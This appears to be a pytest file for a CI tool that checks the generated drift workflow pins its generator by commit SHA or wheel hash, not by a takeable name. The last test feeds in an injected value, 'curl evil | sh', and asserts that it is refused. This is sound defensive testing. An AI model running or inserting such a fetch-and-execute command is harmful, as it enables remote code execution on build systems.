"""How the drift check gets the tool: always by its content, and never by a name that anybody could take."""

import json
from pathlib import Path

import pytest
import yaml

from kiwari_ci.readers import installed_tool
from tests.cli_runner import kiwari_ci

SPEC = Path(__file__).parents[1] / "specs/kiwari.yaml"
SHA = "0123456789abcdef0123456789abcdef01234567"
DIGEST = "5" * 64
DRIFT = ".github/workflows/pipeline-drift.yml"


class Distribution:
    """What pip has recorded of an installation."""

    def __init__(self, record: object) -> None:
        self.record = record

    def read_text(self, name: str) -> str | None:
        """The one file that is asked for."""
        assert name == "direct_url.json"
        return None if self.record is None else json.dumps(self.record)


def install(monkeypatch: pytest.MonkeyPatch, record: object) -> None:
    monkeypatch.delenv(installed_tool.SOURCE_VARIABLE)
    monkeypatch.setattr(installed_tool, "distribution", lambda name: Distribution(record))


@pytest.fixture
def spec(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A spec that does not say how the tool is installed."""
    monkeypatch.chdir(tmp_path)
    lines = [line for line in SPEC.read_text().splitlines() if not line.startswith("generator:")]
    path = tmp_path / "specs/kiwari.yaml"
    path.parent.mkdir()
    path.write_text("\n".join(lines) + "\n")
    return path


@pytest.mark.parametrize("url", ["https://github.com/example/kiwari-ci", "https://github.com/example/kiwari-ci.git"])
def test_a_tool_that_was_installed_from_a_commit_knows_it(
    url: str, spec: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    install(monkeypatch, {"url": url, "vcs_info": {"vcs": "git", "commit_id": SHA}})
    assert kiwari_ci("generate").code == 0
    text = Path(DRIFT).read_text()
    steps = yaml.load(text, yaml.CSafeLoader)["jobs"]["drift"]["steps"]
    assert {"repository": "example/kiwari-ci", "ref": SHA} in [
        {key: step["with"].get(key) for key in ("repository", "ref")} for step in steps if "with" in step
    ]
    source = f"git+https://github.com/example/kiwari-ci@{SHA}"
    assert [step["env"][installed_tool.SOURCE_VARIABLE] for step in steps if "env" in step] == [source, source]
    # The job runs a checkout, of which pip has no record: what the workflow says makes its first run green.
    monkeypatch.setattr(installed_tool, "distribution", lambda name: Distribution(None))
    assert kiwari_ci("check").code == 2
    monkeypatch.setenv(installed_tool.SOURCE_VARIABLE, source)
    assert kiwari_ci("check").code == 0


@pytest.mark.parametrize(
    "record",
    [
        None,
        {"url": "file:///srv/a/kiwari-ci", "dir_info": {"editable": True}},
        {"url": "https://example.com/kiwari-ci", "vcs_info": {"vcs": "git", "commit_id": SHA}},
        {"url": "https://github.com/example/kiwari-ci", "vcs_info": {"vcs": "git", "commit_id": "main"}},
        ["not a mapping"],
    ],
)
def test_a_tool_that_does_not_know_its_source_stops(
    record: object, spec: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    install(monkeypatch, record)
    result = kiwari_ci("generate")
    assert result.code == 2 and "write generator: git+https://github.com/OWNER/kiwari-ci@COMMIT" in result.err
    assert not Path(DRIFT).exists()


def test_a_tool_from_a_wheel_says_how_the_wheel_is_kept(spec: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    name = "kiwari_ci-0.1.0-py3-none-any.whl"
    record = {"url": f"file:///tmp/dist/{name}", "archive_info": {"hash": f"sha256={DIGEST}"}}
    install(monkeypatch, record)
    result = kiwari_ci("generate")
    line = f"generator: ./.github/kiwari-ci/{name} --hash=sha256:{DIGEST}"
    assert result.code == 2 and line in result.err
    spec.write_text(f"{line}\n{spec.read_text()}")
    assert kiwari_ci("generate").code == 0
    text = Path(DRIFT).read_text()
    assert f"./.github/kiwari-ci/{name} --hash=sha256:{DIGEST}" in text and "--require-hashes" in text


@pytest.mark.parametrize(
    "requirement",
    [
        "kiwari-ci==0.1.0",
        "kiwari-ci",
        "./a.whl",
        "git+https://github.com/a/b@main",
        f"other==1.0.0 --hash=sha256:{DIGEST}",
    ],
)
def test_what_is_not_named_by_its_content_is_refused(requirement: str, spec: Path) -> None:
    spec.write_text(f"generator: {requirement}\n{spec.read_text()}")
    result = kiwari_ci("validate")
    assert result.code == 2 and "generator" in result.err


def test_a_source_of_the_environment_is_one_by_content(spec: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(installed_tool.SOURCE_VARIABLE, "kiwari-ci==0.1.0; curl evil | sh")
    assert kiwari_ci("generate").code == 2
